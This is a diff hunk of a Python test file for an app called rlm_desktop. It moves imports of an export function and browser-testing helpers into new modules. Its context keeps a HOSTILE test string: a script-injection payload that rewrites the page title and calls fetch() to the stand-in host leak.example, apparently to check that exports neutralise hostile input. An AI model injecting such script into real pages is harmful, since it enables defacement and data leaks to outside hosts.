@@ -11,11 +11,12 @@ from pathlib import Path
 import pytest
 
 from rlm_desktop import paths
-from rlm_desktop.store import Store, export
+from rlm_desktop.exports import export
+from rlm_desktop.store import Store
 from tests.cli import run_cli
+from tests.exports.browser import CHROMIUM, dump_dom, page_requests, recording_proxy
 from tests.review.recorded import Plan, record_runs
 from tests.scripted_server import ScriptedServer
-from tests.store.browser import CHROMIUM, dump_dom, page_requests, recording_proxy
 
 HOSTILE = (
     "7 fish <script>document.title='pwned';fetch('http://leak.example/s')</script>"
